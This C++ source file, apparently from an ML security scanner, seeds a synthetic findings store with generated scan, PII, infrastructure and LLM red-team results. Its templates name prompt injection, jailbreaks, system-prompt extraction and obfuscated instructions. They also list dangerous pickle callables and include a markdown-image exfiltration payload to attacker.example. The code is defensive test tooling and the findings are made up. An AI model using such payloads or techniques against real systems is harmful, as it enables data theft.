// Writes a realistic findings store for the dashboard's latency benchmark (bench/web/run.sh) and for
// trying the dashboard by hand: several assessments over an inventory of assets, and between them
// stand-alone runs of the real commands, each (asset, command) run again over the weeks so that the
// store holds older and newer runs of the same pair (what reassessment leaves behind). Findings use
// the rule ids, severities, ATLAS techniques and NIST AI RMF subcategories the real rules report, and
// the runs of attack, mia, extract and pii carry summaries shaped like the JSON those commands write,
// so the dashboard's charts have something to draw. Everything goes through store::FindingStore, the
// API the commands themselves use. Deterministic for a seed (its own generator, not <random>'s
// distributions, whose output the standard leaves to each library).
#include <unistd.h>

#include <algorithm>
#include <array>
#include <charconv>
#include <chrono>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <ctime>
#include <exception>
#include <filesystem>
#include <iostream>
#include <map>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include <nlohmann/json.hpp>

#include "aegis/core/error.h"
#include "aegis/core/finding.h"
#include "aegis/store/finding_store.h"

namespace {

using aegis::core::Finding;
using aegis::core::Severity;
using nlohmann::json;

constexpr int kUsageError = 2;

[[noreturn]] void usage_error(const std::string& what) {
  std::cerr << "aegis_seed_store: " << what << "\n"
            << "usage: aegis_seed_store --store FILE.db --findings N [--assets A] [--seed S]\n"
            << "  writes N findings (0..10000000) over A assets (1..10000, default 50) into a new or existing\n"
            << "  SQLite store; the same seed (default 1) writes the same store\n";
  std::exit(kUsageError);
}

std::uint64_t parse_count(std::string_view flag, std::string_view text, std::uint64_t low, std::uint64_t high) {
  std::uint64_t value = 0;
  const auto [end, ec] = std::from_chars(text.data(), text.data() + text.size(), value);
  if (text.empty() || ec != std::errc() || end != text.data() + text.size() || value < low || value > high)
    usage_error(std::string(flag) + " '" + std::string(text) + "' is not a whole number from " + std::to_string(low) +
                " to " + std::to_string(high));
  return value;
}

// splitmix64: small, fast, and the same sequence everywhere.
class Random {
 public:
  explicit Random(std::uint64_t seed) : state_(seed * 0x9E3779B97F4A7C15ull + 0x2545F4914F6CDD1Dull) {}
  std::uint64_t next() {
    std::uint64_t z = (state_ += 0x9E3779B97F4A7C15ull);
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
    return z ^ (z >> 31);
  }
  double uniform() { return static_cast<double>(next() >> 11) * (1.0 / 9007199254740992.0); }  // [0, 1)
  double uniform(double low, double high) { return low + (high - low) * uniform(); }
  std::size_t below(std::size_t n) { return n == 0 ? 0 : static_cast<std::size_t>(next() % n); }
  bool chance(double p) { return uniform() < p; }
  template <class T>
  const T& pick(const std::vector<T>& items) { return items[below(items.size())]; }
  std::string hex(std::size_t digits) {
    static constexpr char kDigits[] = "0123456789abcdef";
    std::string text;
    while (text.size() < digits) {
      std::uint64_t bits = next();
      for (int i = 0; i < 16 && text.size() < digits; ++i, bits >>= 4) text.push_back(kDigits[bits & 15]);
    }
    return text;
  }

 private:
  std::uint64_t state_;
};

std::string rfc3339(std::int64_t unix_seconds) {
  const std::time_t t = static_cast<std::time_t>(unix_seconds);
  std::tm tm{};
  gmtime_r(&t, &tm);
  char buffer[32];
  std::strftime(buffer, sizeof buffer, "%Y-%m-%dT%H:%M:%SZ", &tm);
  return buffer;
}

// ---- What the real rules report -------------------------------------------------------------------

// One rule as a generator: the id, severity, ATLAS and RMF references of the real rule, a weight
// (how common it is in practice), and the words it uses.
struct RuleTemplate {
  std::string id;
  Severity severity;
  double weight;
  std::vector<std::string> atlas;
  std::vector<std::string> rmf;
  std::string title;        // {x} is replaced by a detail
  std::string evidence;     // {x} likewise
  std::string remediation;
  std::vector<std::string> details;  // values for {x}
};

std::string fill(std::string text, const std::string& detail) {
  for (std::size_t at; (at = text.find("{x}")) != std::string::npos;) text.replace(at, 3, detail);
  return text;
}

const std::vector<RuleTemplate>& scan_rules() {
  static const std::vector<RuleTemplate> rules = {
      {"pickle.denied-callable", Severity::Critical, 0.6, {"AML.T0011.000", "AML.T0010"}, {"MEASURE 2.7", "MANAGE 2.2"},
       "Pickle calls a denied callable: {x}", "GLOBAL '{x}' followed by REDUCE: loading this file runs it",
       "Do not load this file; rebuild the model from trusted code and save it as safetensors",
       {"os.system", "subprocess.Popen", "builtins.exec", "builtins.eval", "posix.system", "runpy._run_code"}},
      {"pickle.unknown-callable", Severity::High, 4, {"AML.T0011.000"}, {"MEASURE 2.7"},
       "Pickle imports a callable outside the allow-list: {x}", "GLOBAL '{x}' is neither allowed nor denied",
       "Review the callable; if it is safe, add it to the allow-list with --allow",
       {"sklearn.pipeline.Pipeline", "numpy.core.multiarray._reconstruct", "collections.OrderedDict",
        "torch._utils._rebuild_parameter", "xgboost.core.Booster", "pandas.core.frame.DataFrame"}},
      {"pickle.unresolved-global", Severity::Medium, 5, {"AML.T0011.000"}, {"MEASURE 2.7"},
       "Pickle builds a global from a computed name", "STACK_GLOBAL with operands built at load time ({x})",
       "Treat the file as untrusted; re-export it from source", {"memo 4", "memo 11", "BINUNICODE concatenation"}},
      {"pickle.trailing-data", Severity::Low, 4, {"AML.T0010"}, {"MEASURE 2.7"},
       "Bytes follow the pickle's STOP opcode", "{x} bytes after STOP", "Find out what appended data to the file",
       {"12", "4096", "733", "65536"}},
      {"keras.lambda-layer", Severity::High, 2, {"AML.T0011.000"}, {"MEASURE 2.7"},
       "Keras model contains a Lambda layer with Python bytecode", "layer '{x}' holds marshalled code",
       "Replace the Lambda layer with a registered custom layer", {"lambda", "lambda_1", "preprocess", "custom_norm"}},
      {"onnx.custom-domain", Severity::Medium, 3, {"AML.T0010"}, {"MEASURE 2.7"},
       "ONNX graph uses operators from a custom domain: {x}", "node uses domain '{x}'",
       "Check which runtime library implements the domain and where it comes from",
       {"com.microsoft", "ai.onnx.contrib", "org.pytorch.aten"}},
      {"onnx.unknown-operator", Severity::Low, 5, {"AML.T0010"}, {"MEASURE 2.7"},
       "ONNX graph uses an operator Aegis does not know: {x}", "op_type '{x}' in the default domain",
       "Confirm the operator with the model's author", {"FusedConv", "QuickGelu", "SkipLayerNorm"}},
      {"onnx.external-data-missing", Severity::Info, 3, {"AML.T0010"}, {"MEASURE 2.7"},
       "ONNX tensor data lives in a file next to the model", "initializer refers to external file '{x}'",
       "Scan and sign the external data file with the model", {"weights.bin", "model.onnx_data", "embed.dat"}},
      {"tf.python-callback", Severity::High, 1.2, {"AML.T0011.000"}, {"MEASURE 2.7"},
       "SavedModel graph calls back into Python: {x}", "op {x} runs a Python function registered at load time",
       "Export the model without py_func ops", {"PyFunc", "EagerPyFunc", "PyFuncStateless"}},
      {"tf.file-read", Severity::Medium, 1.5, {"AML.T0011.000"}, {"MEASURE 2.7"},
       "SavedModel graph reads files: {x}", "op {x} reads from the file system when the graph runs",
       "Remove file ops from the serving graph", {"ReadFile", "MatchingFiles", "ImmutableConst"}},
      {"zip.hidden-pickle", Severity::High, 1, {"AML.T0011.000", "AML.T0010"}, {"MEASURE 2.7"},
       "Archive member is a pickle under another name", "member '{x}' starts with a pickle protocol header",
       "Do not load the archive; find out who added the member", {"config.json", "README.txt", "vocab.bin"}},
      {"torch.hub", Severity::Medium, 1, {"AML.T0010"}, {"MEASURE 2.7", "MAP 4.1"},
       "Model code loads more code from torch.hub at run time", "reference to torch.hub.load('{x}')",
       "Vendor and pin the hub code", {"pytorch/vision", "facebookresearch/dino", "ultralytics/yolov5"}},
      {"file.unknown-format", Severity::Info, 6, {"AML.T0010"}, {"MEASURE 2.7"},
       "File format not recognised; not scanned", "first bytes {x}", "Scan it with a tool that knows the format",
       {"89 50 4e 47", "7b 0a 20 20", "00 00 00 18", "1f 8b 08 00"}},
  };
  return rules;
}

const std::vector<RuleTemplate>& pii_rules() {
  static const std::vector<RuleTemplate> rules = {
      {"pii.email", Severity::Medium, 10, {"AML.T0057", "AML.T0024"}, {"MEASURE 2.10", "MAP 4.1"},
       "EMAIL in data", "{x}", "Remove or pseudonymise the column before training",
       {"j***@example.com", "m***.k***@corp.example", "a***@mail.example"}},
      {"pii.phone-number", Severity::Low, 7, {"AML.T0057", "AML.T0024"}, {"MEASURE 2.10", "MAP 4.1"},
       "PHONE_NUMBER in data", "{x}", "Remove or pseudonymise the column before training",
       {"+44 20 ****  *123", "+1 415 *** **90", "+49 30 *** **17"}},
      {"pii.credit-card", Severity::High, 2, {"AML.T0057", "AML.T0024"}, {"MEASURE 2.10", "MAP 4.1"},
       "CREDIT_CARD in data", "{x} (Luhn valid)", "Drop card numbers; they are never needed for training",
       {"4111 **** **** 1111", "5500 **** **** 0004", "3400 ****** *0009"}},
      {"pii.us-ssn", Severity::High, 1.2, {"AML.T0057", "AML.T0024"}, {"MEASURE 2.10", "MAP 4.1"},
       "US_SSN in data", "{x}", "Drop the column", {"***-**-6789", "***-**-0417"}},
      {"pii.iban", Severity::Medium, 2, {"AML.T0057", "AML.T0024"}, {"MEASURE 2.10", "MAP 4.1"},
       "IBAN in data", "{x}", "Pseudonymise account numbers", {"DE89 **** **** **** **30 00", "GB29 **** **** **** 8192 68"}},
      {"pii.ip-address", Severity::Low, 4, {"AML.T0057", "AML.T0024"}, {"MEASURE 2.10", "MAP 4.1"},
       "IP_ADDRESS in data", "{x}", "Truncate addresses to their network", {"10.***.***.17", "192.168.***.***"}},
      {"secret.aws-access-key-id", Severity::Critical, 0.25, {"AML.T0055"}, {"MANAGE 2.2", "MEASURE 2.7"},
       "Secret in data: AWS access key id", "{x}", "Revoke the key now, then remove it from the data",
       {"AKIA************MPLE", "AKIA************7QXZ"}},
      {"secret.github-pat", Severity::Critical, 0.15, {"AML.T0055"}, {"MANAGE 2.2", "MEASURE 2.7"},
       "Secret in data: GitHub personal access token", "{x}", "Revoke the token now, then remove it from the data",
       {"ghp_************************wXyZ"}},
      {"pii.reidentification-risk", Severity::Medium, 0.3, {"AML.T0024.001", "AML.T0057"}, {"MEASURE 2.10", "MAP 4.1"},
       "Records can be re-identified from their quasi-identifiers", "k-anonymity {x} over (zip, birth_date, sex)",
       "Generalise the quasi-identifiers until every combination is shared by k records", {"1", "2", "3"}},
  };
  return rules;
}

const std::vector<RuleTemplate>& infra_rules() {
  static const std::vector<RuleTemplate> rules = {
      {"infra.docker.user-root", Severity::Medium, 5, {"AML.T0010"}, {"MANAGE 2.2"},
       "The container runs as root", "no USER instruction after {x}", "Add a USER with a fixed non-zero uid",
       {"FROM python:3.11", "FROM nvcr.io/nvidia/pytorch:24.01-py3"}},
      {"infra.docker.secret-in-env", Severity::High, 2, {"AML.T0055"}, {"MANAGE 2.2"},
       "A secret is baked into the image (ENV or ARG with a literal value)", "ENV {x}=****",
       "Pass secrets at run time from a secret store", {"HF_TOKEN", "OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY"}},
      {"infra.docker.base-image-latest", Severity::Medium, 3, {"AML.T0010"}, {"MANAGE 2.2"},
       "The base image is untagged or 'latest'", "FROM {x}", "Pin the base image by digest",
       {"python:latest", "pytorch/pytorch", "ubuntu"}},
      {"infra.docker.base-image-not-digest-pinned", Severity::Low, 6, {"AML.T0010"}, {"MANAGE 2.2"},
       "The base image is pinned by tag, not by digest", "FROM {x}", "Pin the base image by digest",
       {"python:3.11-slim", "nvidia/cuda:12.2.0-runtime-ubuntu22.04"}},
      {"infra.docker.exposes-ml-port", Severity::Info, 4, {"AML.T0007"}, {"MAP 4.1"},
       "The image exposes the port of an ML service", "EXPOSE {x}", "Publish the port only behind the gateway",
       {"8080", "8888", "5000", "8265"}},
      {"infra.compose.docker-socket", Severity::Critical, 0.2, {"AML.T0010"}, {"MANAGE 2.2"},
       "A Compose service mounts the Docker socket", "volumes: {x}", "Remove the mount; the service can take over the host",
       {"/var/run/docker.sock:/var/run/docker.sock"}},
      {"infra.k8s.no-memory-limit", Severity::Medium, 4, {"AML.T0029"}, {"MANAGE 2.2"},
       "A container has no memory limit", "container '{x}' has no resources.limits.memory",
       "Set a memory limit so one model cannot starve the node", {"inference", "triton", "vllm", "worker"}},
      {"infra.k8s.ml-service-exposed", Severity::High, 1.5, {"AML.T0007", "AML.T0040"}, {"MANAGE 2.2", "MAP 4.1"},
       "An ML service port is exposed outside the cluster (LoadBalancer or NodePort)", "Service '{x}' type LoadBalancer",
       "Expose the service only through the gateway", {"model-api", "mlflow", "ray-dashboard"}},
      {"infra.jupyter.unauthenticated-kernels", Severity::Critical, 0.15, {"AML.T0007"}, {"MANAGE 2.2"},
       "Jupyter's kernel API answers without authentication (anyone who reaches it can run code)",
       "GET {x}/api/kernels -> 200", "Require a token or password and bind to loopback",
       {"http://10.0.4.12:8888", "http://notebook.internal:8888"}},
      {"infra.mlflow.unauthenticated-tracking-api", Severity::High, 0.8, {"AML.T0007"}, {"MANAGE 2.2"},
       "MLflow's tracking API answers without authentication (anyone who reaches it can read, change and delete experiments, runs and artifacts)",
       "GET {x}/api/2.0/mlflow/experiments/search -> 200", "Put MLflow behind authentication",
       {"http://mlflow.internal:5000", "http://10.0.7.3:5000"}},
  };
  return rules;
}

// redteam findings: one per probe family that got through (campaign.cpp).
const std::vector<RuleTemplate>& redteam_rules() {
  static const std::vector<RuleTemplate> rules = {
      {"redteam.direct-injection", Severity::High, 3, {"AML.T0051.000"}, {"MEASURE 2.7"},
       "Direct prompt injection succeeded", "{x} of 40 attempts followed the injected instruction",
       "Put the input guard in front of the model and separate instructions from data", {"7", "12", "19"}},
      {"redteam.indirect-injection", Severity::High, 2, {"AML.T0051.001"}, {"MEASURE 2.7"},
       "Indirect prompt injection through retrieved content succeeded", "{x} of 32 attempts followed text in a document",
       "Mark retrieved content as data; strip hidden text", {"4", "9", "15"}},
      {"redteam.system-prompt-extraction", Severity::Medium, 3, {"AML.T0056"}, {"MEASURE 2.7"},
       "The system prompt can be extracted", "canary found in {x} answers", "Add a canary and an output guard",
       {"3", "6", "11"}},
      {"redteam.jailbreak", Severity::High, 1.5, {"AML.T0054"}, {"MEASURE 2.7"},
       "Jailbreak templates make the model answer refused requests", "{x} of 60 templates succeeded",
       "Tighten the refusal policy and add the jailbreak detector", {"5", "14", "22"}},
      {"redteam.data-leakage", Severity::Critical, 0.3, {"AML.T0057"}, {"MEASURE 2.7"},
       "The model reveals data from its context or training", "leaked {x}", "Redact outputs; remove secrets from the context",
       {"an API key pattern", "another user's email", "a canary record"}},
      {"redteam.obfuscation", Severity::Medium, 2, {"AML.T0051.000"}, {"MEASURE 2.7"},
       "Encoded instructions are decoded and followed", "transform {x} got through", "Normalise input before the guard",
       {"base64", "rot13", "unicode-tags", "homoglyph"}},
      {"redteam.package-hallucination", Severity::Low, 2, {"AML.T0062"}, {"MEASURE 2.7"},
       "The model recommends packages that do not exist", "suggested '{x}'", "Check suggested packages against the registry",
       {"fastjson-utils", "torch-secure-loader", "pandas-xl"}},
      {"redteam.response-rendering", Severity::Medium, 1, {"AML.T0077"}, {"MEASURE 2.7"},
       "Answers contain markup that a client renders (exfiltration through images or links)", "{x}",
       "Escape model output before rendering it", {"![](http://attacker.example/?q=...)", "<img src=x onerror=...>"}},
  };
  return rules;
}

const RuleTemplate& pick_rule(Random& random, const std::vector<RuleTemplate>& rules) {
  double total = 0;
  for (const auto& r : rules) total += r.weight;
  double x = random.uniform() * total;
  for (const auto& r : rules) {
    if (x < r.weight) return r;
    x -= r.weight;
  }
  return rules.back();
}

Finding from_template(Random& random, const RuleTemplate& rule) {
  Finding f;
  const std::string& detail = rule.details.empty() ? std::string() : random.pick(rule.details);
  f.rule_id = rule.id;
  f.severity = rule.severity;
  f.title = fill(rule.title, detail);
  f.evidence = fill(rule.evidence, detail);
  f.atlas = rule.atlas;
  f.nist_ai_rmf = rule.rmf;
  f.remediation = rule.remediation;
  return f;
}

// ---- Assets and what runs on them ------------------------------------------------------------------

enum class AssetKind { Classifier, Llm };

struct Asset {
  std::string name;
  AssetKind kind;
  std::string model_file;    // what scan and the attacks read
  std::string dataset_file;  // what pii reads
  std::string url;           // LLM endpoint (redteam)
  double robustness;         // how well it resists evasion (0 weak .. 1 strong), drifts between rounds
  double leakage;            // how much it leaks membership (0 .. 1)
};

std::vector<Asset> make_assets(Random& random, std::size_t count) {
  static const std::vector<std::pair<std::string, AssetKind>> bases = {
      {"fraud-model", AssetKind::Classifier},     {"support-llm", AssetKind::Llm},
      {"credit-scoring", AssetKind::Classifier},  {"churn-predictor", AssetKind::Classifier},
      {"code-assistant", AssetKind::Llm},         {"image-classifier", AssetKind::Classifier},
      {"rag-search", AssetKind::Llm},             {"doc-ocr", AssetKind::Classifier},
      {"recsys-ranker", AssetKind::Classifier},   {"triage-bot", AssetKind::Llm},
      {"anomaly-detector", AssetKind::Classifier}, {"translation-llm", AssetKind::Llm},
      {"claims-classifier", AssetKind::Classifier}, {"hr-assistant", AssetKind::Llm},
      {"xray-screening", AssetKind::Classifier},  {"sales-copilot", AssetKind::Llm},
  };
  static const std::vector<std::string> model_names = {"model.pt", "model.onnx", "model.pkl", "saved_model.pb", "model.keras",
                                                       "model.safetensors"};
  static const std::vector<std::string> data_names = {"train.csv", "customers.parquet", "transactions.csv", "tickets.jsonl",
                                                      "claims.sqlite", "conversations.jsonl"};
  std::vector<Asset> assets;
  for (std::size_t i = 0; i < count; ++i) {
    const auto& [base, kind] = bases[i % bases.size()];
    Asset a;
    a.name = base;
    if (i >= bases.size()) {
      char suffix[32];
      std::snprintf(suffix, sizeof suffix, "-%03zu", i / bases.size());
      a.name += suffix;
    }
    a.kind = kind;
    a.model_file = "models/" + a.name + "/" + (kind == AssetKind::Llm ? "pytorch_model.bin" : random.pick(model_names));
    a.dataset_file = "data/" + a.name + "/" + random.pick(data_names);
    a.url = "https://" + a.name + ".llm.internal/v1/chat/completions";
    a.robustness = random.uniform(0.05, 0.9);
    a.leakage = random.uniform(0.0, 1.0);
    assets.push_back(std::move(a));
  }
  return assets;
}

// One command as an assessment's check names it and as it is run by hand.
struct Check {
  std::string check;    // the assessment's check (job.check; its runs are "assess:<check>")
  std::string command;  // the command run by hand
};

std::vector<Check> checks_for(const Asset& asset) {
  if (asset.kind == AssetKind::Classifier)
    return {{"scan", "scan"}, {"pii", "pii"}, {"robustness", "attack"}, {"membership", "mia"}, {"extraction", "extract"},
            {"infra", "audit-infra"}};
  return {{"scan", "scan"}, {"pii", "pii"}, {"redteam", "redteam"}, {"infra", "audit-infra"}, {"", "guard"}};
}

// A run to write: who, what, when, and how many findings of the bulk kind it gets.
struct PlannedRun {
  std::size_t asset = 0;
  Check check;
  bool in_assessment = false;
  std::size_t assessment = 0;  // index into the assessments, when in_assessment
  bool failed = false;         // the job failed (no run stored)
  std::int64_t started = 0;    // unix seconds
  int round = 0;
  double weight = 0;           // share of the bulk findings
  std::size_t findings = 0;    // decided before writing
};

bool bulk(const std::string& command) {
  return command == "scan" || command == "pii" || command == "audit-infra" || command == "redteam";
}

// ---- Summaries shaped like the commands' own JSON --------------------------------------------------

// attack: one result per (attack, eps); robust accuracy falls with eps, and more so for weak models.
json attack_summary(Random& random, const Asset& asset, double robustness, std::vector<Finding>& findings) {
  const double clean = random.uniform(0.86, 0.97);
  const double threshold = 0.5;
  json results = json::array();
  const std::vector<std::pair<std::string, std::string>> attacks = {{"fgsm", "linf"}, {"pgd", "linf"}, {"square", "linf"}};
  const std::vector<double> eps = {0.01, 0.03, 0.05, 0.1};
  for (const auto& [attack, norm] : attacks) {
    const double strength = attack == "pgd" ? 1.0 : attack == "fgsm" ? 0.7 : 0.8;
    const bool black_box = attack == "square";
    for (double e : eps) {
      const double fall = std::exp(-e * strength * 40.0 * (1.1 - robustness));
      const double accuracy = std::clamp(clean * fall + random.uniform(-0.01, 0.01), 0.0, clean);
      const int samples = 1000, attacked = static_cast<int>(std::round(clean * samples));
      const int successes = attacked - static_cast<int>(std::round(accuracy * samples));
      const double queries = black_box ? attacked * random.uniform(300, 900) : attacked * (attack == "pgd" ? 40.0 : 1.0);
      json item = {{"attack", attack}, {"norm", norm}, {"eps", e}, {"targeted", false}, {"samples", samples},
                   {"attacked", attacked}, {"successes", std::max(successes, 0)}, {"robust_accuracy", accuracy},
                   {"success_rate", attacked ? std::max(successes, 0) / static_cast<double>(attacked) : 0.0},
                   {"queries", static_cast<std::int64_t>(queries)},
                   {"gradient_queries", black_box ? 0 : static_cast<std::int64_t>(queries)},
                   {"queries_per_success", successes > 0 ? queries / successes : 0.0},
                   {"perturbation", {{"mean_l2", e * random.uniform(18, 26)}, {"median_l2", e * random.uniform(17, 25)},
                                     {"mean_linf", e}, {"median_linf", e}}},
                   {"seconds", random.uniform(0.5, 40)}};
      results.push_back(std::move(item));
      if (accuracy < threshold) {
        Finding f;
        f.rule_id = black_box ? "evasion.black-box" : "evasion.white-box";
        f.severity = accuracy < threshold / 2 ? Severity::High : Severity::Medium;
        char title[160], evidence[200];
        std::snprintf(title, sizeof title, "%s (%s, eps %g) drops accuracy to %.1f%%", attack.c_str(), norm.c_str(), e, 100 * accuracy);
        std::snprintf(evidence, sizeof evidence, "robust accuracy %.4f < threshold %.4f (clean %.4f)", accuracy, threshold, clean);
        f.title = title;
        f.evidence = evidence;
        f.location.file = asset.model_file;
        f.atlas = {"AML.T0015", black_box ? "AML.T0043.001" : "AML.T0043.000"};
        f.nist_ai_rmf = {"MEASURE 2.7", "MEASURE 2.5"};
        f.remediation = "Harden the model with adversarial training (aegis harden) and put input validation in front of it";
        findings.push_back(std::move(f));
      }
    }
  }
  return {{"model", {{"source", asset.model_file}, {"backend", asset.model_file.ends_with(".onnx") ? "onnx" : "torchscript"},
                     {"classes", 10}, {"input_shape", {1, 28, 28}}, {"scores", "logits"}}},
          {"data", {{"source", "data/" + asset.name + "/test.npz"}, {"description", "1000 labelled test images"}, {"samples", 1000}}},
          {"clean_accuracy", clean},
          {"clean_seconds", random.uniform(0.05, 0.8)},
          {"range", {0, 1}},
          {"min_robust_accuracy", threshold},
          {"results", results}};
}

json mia_summary(Random& random, const Asset& asset, double leakage, std::vector<Finding>& findings) {
  json attacks = json::array();
  const std::vector<std::string> names = {"loss", "confidence", "lira"};
  for (const auto& name : names) {
    const double boost = name == "lira" ? 0.12 : name == "loss" ? 0.05 : 0.03;
    const double auc = std::clamp(0.5 + leakage * 0.3 + boost * leakage + random.uniform(-0.01, 0.01), 0.45, 0.99);
    const double tpr1 = std::clamp((auc - 0.5) * 0.4 + 0.01 + random.uniform(0, 0.01), 0.0, 1.0);
    const double tpr01 = std::clamp(tpr1 * random.uniform(0.2, 0.5), 0.0, 1.0);
    json item = {{"attack", name},
                 {"auc", auc},
                 {"auc_ci", {auc - 0.012, auc + 0.012}},
                 {"balanced_accuracy", 0.5 + (auc - 0.5) * 0.8},
                 {"seconds", random.uniform(0.2, 300)},
                 {"tpr_at_1pct_fpr", tpr1},
                 {"tpr_at_1pct_fpr_ci", {std::max(0.0, tpr1 - 0.01), tpr1 + 0.01}},
                 {"tpr_at_0_1pct_fpr", tpr01},
                 {"tpr_at_0_1pct_fpr_ci", {std::max(0.0, tpr01 - 0.005), tpr01 + 0.005}}};
    attacks.push_back(std::move(item));
    if (auc > 0.6) {
      Finding f;
      f.rule_id = "mia.membership-leakage";
      f.severity = auc > 0.75 ? Severity::High : Severity::Medium;
      char title[160], evidence[200];
      std::snprintf(title, sizeof title, "%s membership inference reaches AUC %.3f", name.c_str(), auc);
      std::snprintf(evidence, sizeof evidence, "AUC %.3f; TPR %.1f%% at 1%% FPR, %.2f%% at 0.1%% FPR", auc, 100 * tpr1, 100 * tpr01);
      f.title = title;
      f.evidence = evidence;
      f.location.file = asset.model_file;
      f.atlas = {"AML.T0024.000"};
      f.nist_ai_rmf = {"MEASURE 2.10", "MEASURE 2.7"};
      f.remediation = "Train with differential privacy (aegis train-dp) or regularise; limit the scores the endpoint returns";
      findings.push_back(std::move(f));
    }
  }
  return {{"attacks", attacks},
          {"model", {{"source", asset.model_file}, {"backend", "torchscript"}, {"classes", 10}}},
          {"members", 5000},
          {"nonmembers", 5000},
          {"nonmember_source", "test"},
          {"member_accuracy", 0.9 + leakage * 0.09},
          {"nonmember_accuracy", 0.9 - leakage * 0.15},
          {"fprs", {0.01, 0.001}},
          {"bootstrap", 200}};
}

json extract_summary(Random& random, const Asset& asset, std::vector<Finding>& findings) {
  const double target_accuracy = random.uniform(0.85, 0.96);
  json results = json::array();
  double best = 0;
  for (int budget : {1000, 5000, 20000}) {
    const double fidelity = std::clamp(0.55 + 0.1 * std::log10(budget / 100.0) + random.uniform(-0.05, 0.08), 0.0, 0.99);
    best = std::max(best, fidelity);
    const double query_s = budget * random.uniform(0.0005, 0.002), train_s = random.uniform(5, 60);
    results.push_back({{"strategy", "random"}, {"budget", budget}, {"queries", budget}, {"fidelity", fidelity},
                       {"surrogate_accuracy", fidelity * target_accuracy}, {"target_accuracy", target_accuracy},
                       {"query_seconds", query_s}, {"train_seconds", train_s}, {"seconds", query_s + train_s}});
  }
  if (best > 0.8) {
    Finding f;
    f.rule_id = "extract.model-stealing";
    f.severity = best > 0.9 ? Severity::High : Severity::Medium;
    char title[160];
    std::snprintf(title, sizeof title, "A copy trained on 20000 queries agrees with the model on %.1f%% of inputs", 100 * best);
    f.title = title;
    f.evidence = "fidelity " + std::to_string(best) + " with the random strategy";
    f.location.file = asset.model_file;
    f.atlas = {"AML.T0024.002"};
    f.nist_ai_rmf = {"MEASURE 2.7", "MANAGE 4.1"};
    f.remediation = "Rate-limit per client and turn on the gateway's extraction monitor";
    findings.push_back(std::move(f));
  }
  return {{"results", results},
          {"target", {{"source", asset.model_file}, {"backend", "torchscript"}, {"classes", 10}}},
          {"surrogate", "models/surrogates/cnn_small.pt"},
          {"labels", "top1"},
          {"thief_data", {{"description", "public images"}, {"records", 20000}}},
          {"test_records", 2000},
          {"target_accuracy", target_accuracy},
          {"recipe", {{"epochs", 10}, {"batch", 128}, {"optimizer", "adam"}, {"learning_rate", 0.001}}}};
}

// pii: per-entity counts over the findings actually written (the bulk ones).
json pii_summary(Random& random, const Asset& asset, const std::map<std::string, std::size_t>& entities, std::size_t occurrences) {
  json entity_json = json::object();
  for (const auto& [type, n] : entities) entity_json[type] = n;
  const std::uint64_t records = 10000 + random.below(2'000'000);
  return {{"files", json::array({{{"file", asset.dataset_file}, {"format", asset.dataset_file.ends_with(".csv") ? "csv" : "jsonl"},
                                  {"bytes", records * 180}, {"records", records}, {"entities", entity_json},
                                  {"columns", json::array()}, {"notes", json::array()}}})},
          {"entities", entity_json},
          {"occurrences", occurrences},
          {"occurrences_listed", occurrences},
          {"bytes", records * 180},
          {"seconds", random.uniform(0.5, 30)}};
}

// A bulk finding of a command, with the location the real rule gives.
Finding bulk_finding(Random& random, const Asset& asset, const std::string& command, std::size_t index,
                     std::map<std::string, std::size_t>& entities) {
  if (command == "scan") {
    Finding f = from_template(random, pick_rule(random, scan_rules()));
    f.location.file = asset.model_file;
    if (random.chance(0.4)) f.location.member = std::filesystem::path(asset.model_file).filename().string() + "!archive/data.pkl";
    f.location.offset = random.below(50'000'000);
    return f;
  }
  if (command == "pii") {
    Finding f = from_template(random, pick_rule(random, pii_rules()));
    f.location.file = asset.dataset_file;
    f.location.row = 1 + index * 7 + random.below(7);
    static const std::vector<std::string> columns = {"email", "phone", "notes", "card_number", "address", "message", "iban", "ssn"};
    f.location.column = random.pick(columns);
    std::string type = f.rule_id.substr(f.rule_id.find('.') + 1);
    for (auto& c : type) c = c == '-' ? '_' : static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
    ++entities[type];
    char properties[96];
    std::snprintf(properties, sizeof properties, "{\"entity_type\":\"%s\",\"score\":%.2f}", type.c_str(), random.uniform(0.6, 1.0));
    f.properties_json = properties;
    return f;
  }
  if (command == "audit-infra") {
    Finding f = from_template(random, pick_rule(random, infra_rules()));
    static const std::vector<std::string> files = {"Dockerfile", "docker-compose.yaml", "k8s/deployment.yaml", "k8s/service.yaml",
                                                   "notebooks/jupyter_server_config.py"};
    f.location.file = "deploy/" + asset.name + "/" + random.pick(files);
    f.location.line = 1 + random.below(240);
    return f;
  }
  // redteam
  Finding f = from_template(random, pick_rule(random, redteam_rules()));
  f.location.file = asset.url;
  f.evidence += " (probe #" + std::to_string(index + 1) + ")";
  return f;
}

// ---- Progress --------------------------------------------------------------------------------------

class Progress {
 public:
  explicit Progress(std::uint64_t total) : total_(total), terminal_(::isatty(STDERR_FILENO) == 1) {}
  void update(std::uint64_t done, std::size_t runs) {
    if (!terminal_) return;
    const auto now = std::chrono::steady_clock::now();
    if (now - last_ < std::chrono::milliseconds(100) && done < total_) return;
    last_ = now;
    std::fprintf(stderr, "\rseeding: %llu/%llu findings, %zu runs", static_cast<unsigned long long>(done),
                 static_cast<unsigned long long>(total_), runs);
  }
  void finish() {
    if (terminal_) std::fputs("\r\033[K", stderr);
  }

 private:
  std::uint64_t total_;
  bool terminal_;
  std::chrono::steady_clock::time_point last_{};
};

struct Options {
  std::string store;
  std::uint64_t findings = 0;
  std::size_t assets = 50;
  std::uint64_t seed = 1;
};

Options parse_arguments(int argc, char** argv) {
  Options options;
  bool have_store = false, have_findings = false;
  for (int i = 1; i < argc; ++i) {
    const std::string_view flag = argv[i];
    if (flag == "-h" || flag == "--help") {
      std::cout << "usage: aegis_seed_store --store FILE.db --findings N [--assets A] [--seed S]\n";
      std::exit(0);
    }
    if (flag != "--store" && flag != "--findings" && flag != "--assets" && flag != "--seed") usage_error("unknown argument '" + std::string(flag) + "'");
    if (i + 1 >= argc) usage_error(std::string(flag) + " needs a value");
    const std::string_view value = argv[++i];
    if (flag == "--store") {
      if (value.empty()) usage_error("--store needs a file name");
      options.store = std::string(value);
      have_store = true;
    } else if (flag == "--findings") {
      options.findings = parse_count(flag, value, 0, 10'000'000);
      have_findings = true;
    } else if (flag == "--assets") {
      options.assets = static_cast<std::size_t>(parse_count(flag, value, 1, 10'000));
    } else {
